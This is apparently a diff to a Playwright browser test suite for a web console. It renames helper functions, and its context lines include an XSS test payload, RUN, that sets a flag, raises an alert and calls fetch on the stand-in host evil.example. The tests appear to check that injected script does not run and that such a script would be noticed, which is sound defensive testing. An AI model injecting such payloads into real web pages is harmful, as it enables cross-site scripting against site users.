@@ -8,7 +8,7 @@ from urllib.parse import quote
 import pytest
 from playwright.sync_api import Browser, Page, expect
 
-from tests.console.browser.conftest import Findings, clear, looked_at
+from tests.console.browser.conftest import Findings, clear, open_page
 from tests.console.browser.desks import DeskProcess, desk_process
 
 RUN = "window.ran=1;alert(1);fetch('https://evil.example/')"
@@ -89,7 +89,7 @@ def zoo(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[
 
 @pytest.fixture(scope="module")
 def watching_page(browser: Browser, zoo: DeskProcess) -> Iterator[Page]:
-    with looked_at(browser, zoo.url, color_scheme="light") as (page, findings):
+    with open_page(browser, zoo.url, color_scheme="light") as (page, findings):
         findings.forget(page)
         page.add_init_script(WATCH)
         yield page
@@ -104,7 +104,7 @@ def zoo_page(watching_page: Page, zoo: DeskProcess) -> Iterator[Page]:
     assert watching_page.evaluate(FOUND) == []
     findings.forget(watching_page)
     clear(watching_page)
-    assert findings.unexpected() == []
+    assert findings.list_unexpected() == []
 
 
 def settle(page: Page) -> None:
@@ -174,7 +174,7 @@ def test_what_turns_the_reading_direction_around_stays_within_its_own_text(zoo_p
 
 
 def test_the_watch_would_notice_a_script_that_runs(browser: Browser, zoo: DeskProcess) -> None:
-    with looked_at(browser, zoo.url) as (page, findings):
+    with open_page(browser, zoo.url) as (page, findings):
         page.add_init_script(WATCH)
         page.goto(f"{zoo.url}/console/")
         expect(page.locator("h1")).to_be_visible()
